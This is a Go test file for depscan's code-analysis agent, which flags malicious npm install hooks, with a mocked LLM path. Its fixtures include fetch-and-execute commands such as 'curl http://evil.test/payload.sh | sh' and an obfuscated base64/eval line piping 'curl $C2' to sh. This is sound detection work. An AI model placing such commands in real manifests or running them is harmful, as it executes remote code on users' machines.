// Copyright 2026 depscan authors
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//      http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package codeagent

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"testing"

	"github.com/vishu-2s/depscan/agent"
	"github.com/vishu-2s/depscan/clients/llm"
	"github.com/vishu-2s/depscan/inventory"
)

func scriptFinding(hook, command string) *inventory.Finding {
	return &inventory.Finding{
		PackageName: "package.json",
		Ecosystem:   inventory.EcosystemNPM,
		Type:        inventory.FindingMaliciousScript,
		Severity:    inventory.SeverityCritical,
		Confidence:  0.9,
		Extra:       map[string]any{"hook": hook, "command": command},
	}
}

func TestGate(t *testing.T) {
	tests := []struct {
		name string
		in   *agent.Context
		want bool
	}{
		{
			"malicious script finding",
			&agent.Context{InitialFindings: []*inventory.Finding{scriptFinding("preinstall", "curl x | sh")}},
			true,
		},
		{
			"complex script",
			&agent.Context{Manifest: &inventory.Manifest{Scripts: map[string]string{
				"postinstall": `echo "\x65\x76" | base64 -d | sh && eval $P; curl $C2 | sh`,
			}}},
			true,
		},
		{
			"benign project",
			&agent.Context{Manifest: &inventory.Manifest{Scripts: map[string]string{
				"test": "jest --coverage",
			}}},
			false,
		},
		{"empty context", &agent.Context{}, false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			open, reason := Gate(tc.in)
			if open != tc.want {
				t.Errorf("Gate = %v (%q), want %v", open, reason, tc.want)
			}
			if !open && reason == "" {
				t.Error("closed gate must carry a reason")
			}
		})
	}
}

func TestAnalyzePatternFallback(t *testing.T) {
	cmd := "curl http://evil.test/payload.sh | sh"
	m := &inventory.Manifest{
		Ecosystem: inventory.EcosystemNPM,
		Path:      "package.json",
		Scripts:   map[string]string{"preinstall": cmd, "test": "jest"},
	}
	in := &agent.Context{
		Manifest:        m,
		InitialFindings: []*inventory.Finding{scriptFinding("preinstall", cmd)},
	}
	a := New(Config{})
	res := a.Analyze(context.Background(), in)
	if res.Status != agent.StatusSuccess {
		t.Fatalf("status = %s: %s", res.Status, res.Error)
	}
	data := res.Data.(*Data)
	if len(data.Scripts) != 1 {
		t.Fatalf("got %d verdicts, want only the flagged hook", len(data.Scripts))
	}
	v := data.Scripts[0]
	if v.LLMUsed {
		t.Error("LLMUsed = true without a configured model")
	}
	if v.Severity != inventory.SeverityCritical {
		t.Errorf("severity = %s, want critical for curl|sh in preinstall", v.Severity)
	}
	if !slices.Contains(v.BehavioralIndicators, "remote_code_execution") {
		t.Errorf("indicators = %v, want remote_code_execution", v.BehavioralIndicators)
	}

	findings := data.Findings(m)
	if len(findings) != 1 || findings[0].Type != inventory.FindingCodeAnomaly {
		t.Errorf("findings = %+v, want one code_anomaly", findings)
	}
}

func TestAnalyzeWithModel(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `{"choices": [{"message": {"content":
			"{\"obfuscation_detected\": [\"hex escapes\"], \"behavioral_indicators\": [\"downloads and executes code\"], \"code_quality_assessment\": \"deliberately obscured\", \"severity\": \"high\", \"confidence\": 0.85}"
		}}]}`)
	}))
	defer srv.Close()

	cmd := "curl http://evil.test/payload.sh | sh"
	in := &agent.Context{
		Manifest:        &inventory.Manifest{Scripts: map[string]string{"preinstall": cmd}},
		InitialFindings: []*inventory.Finding{scriptFinding("preinstall", cmd)},
	}
	a := New(Config{LLM: llm.New(llm.Config{APIKey: "k", BaseURL: srv.URL})})
	res := a.Analyze(context.Background(), in)
	data := res.Data.(*Data)
	if len(data.Scripts) != 1 {
		t.Fatalf("got %d verdicts", len(data.Scripts))
	}
	v := data.Scripts[0]
	if !v.LLMUsed {
		t.Error("model verdict not used")
	}
	if v.Severity != inventory.SeverityHigh || v.Confidence != 0.85 {
		t.Errorf("severity/confidence = %s/%v", v.Severity, v.Confidence)
	}
	if v.Command != cmd || v.Hook != "preinstall" {
		t.Errorf("verdict not bound to script: %+v", v)
	}
}

func TestAnalyzeDeduplicatesIdenticalCommands(t *testing.T) {
	cmd := "curl http://evil.test/x.sh | sh"
	in := &agent.Context{
		Manifest: &inventory.Manifest{Scripts: map[string]string{
			"preinstall":  cmd,
			"postinstall": cmd,
		}},
		InitialFindings: []*inventory.Finding{
			scriptFinding("preinstall", cmd),
			scriptFinding("postinstall", cmd),
		},
	}
	a := New(Config{})
	data := a.Analyze(context.Background(), in).Data.(*Data)
	if len(data.Scripts) != 2 {
		t.Fatalf("got %d verdicts, want one per hook", len(data.Scripts))
	}
	if data.Scripts[0].Hook == data.Scripts[1].Hook {
		t.Errorf("duplicate hook names: %+v", data.Scripts)
	}
}
